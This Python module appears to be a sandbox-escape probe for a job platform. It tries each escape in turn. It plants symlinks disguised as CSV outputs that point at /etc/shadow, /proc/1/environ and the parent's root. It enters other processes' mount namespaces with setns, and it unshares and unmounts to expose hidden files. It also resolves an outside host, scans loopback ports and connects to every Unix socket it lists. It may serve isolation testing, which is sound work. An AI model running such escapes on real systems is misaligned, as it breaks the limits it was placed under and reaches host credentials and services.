"""Try every way out of the jail, and links that would carry something in."""

import ctypes
import os
import socket

from files import pids, read_anything

PORTS = (22, 80, 443, 3306, 5432, 6379, 8000, 8080, 8265, 10001)
NEW_USER, NEW_MOUNTS = 0x10000000, 0x00020000


def open_all():
    """What each attempt came to; none of them stops the others."""
    attempts = (links, namespaces, mounts, names, loopback, unix_sockets)
    return {attempt.__name__: tried(attempt) for attempt in attempts}


def tried(attempt):
    try:
        return attempt()
    except Exception as fault:
        return type(fault).__name__


def links():
    """Links among the outputs, so that the platform might read what this process cannot."""
    out = os.path.join(os.environ.get("MADANG_JOB", "/job"), "out")
    targets = ("/etc/shadow", "/proc/1/environ", "/root", f"/proc/{os.getppid()}/root")
    for number, target in enumerate(targets):
        os.symlink(target, os.path.join(out, f"link{number}.csv"))
    return len(targets)


def namespaces():
    """Step into another process's view of the files."""
    libc = ctypes.CDLL(None, use_errno=True)
    entered = 0
    for pid in pids():
        try:
            handle = os.open(f"/proc/{pid}/ns/mnt", os.O_RDONLY)
        except OSError:
            continue
        entered += libc.setns(handle, NEW_MOUNTS) == 0
        os.close(handle)
    return entered


def mounts():
    """Lay bare what a mount hides: a new namespace in which the covers can be taken off."""
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.unshare(NEW_USER | NEW_MOUNTS) != 0:
        return 0
    covered = [
        line.split()[1] for line in read_anything("/proc/self/mounts").decode().splitlines()
    ]
    return sum(libc.umount2(place.encode(), 2) == 0 for place in covered[::-1])


def names():
    return socket.getaddrinfo("outcomes.example.org", 443)


def loopback():
    """Services of the platform on this machine."""
    found = []
    for port in PORTS:
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as door:
            door.settimeout(0.2)
            if door.connect_ex(("127.0.0.1", port)) == 0:
                found.append(port)
    return found


def unix_sockets():
    found = []
    for line in read_anything("/proc/net/unix").decode("utf-8", "replace").splitlines()[1:]:
        place = line.split()[-1]
        if place.startswith(("/", "@")):
            with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as door:
                door.settimeout(0.2)
                door.connect(place.replace("@", "\0", 1))
                found.append(place)
    return found
